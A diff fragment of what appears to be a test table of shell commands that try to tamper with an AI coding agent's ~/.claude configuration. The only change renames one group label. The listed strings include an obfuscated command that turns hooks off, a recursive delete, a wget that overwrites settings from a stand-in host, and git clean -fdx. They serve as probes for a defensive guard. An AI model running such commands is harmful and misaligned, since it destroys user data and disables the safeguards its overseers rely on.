@@ -190,7 +190,7 @@ const attempts: Readonly<Record<string, readonly string[]>> = {
     'rm -rf ~/.claud{e,f}',
     'a=any b=hook; $a$b off',
   ],
-  'a folder that is filled': [
+  'filling a folder': [
     'wget -P ~/.claude http://x/settings.json',
     'cd ~/.claude; git clean -fdx',
     'cp -r x/. ~/.claude/',
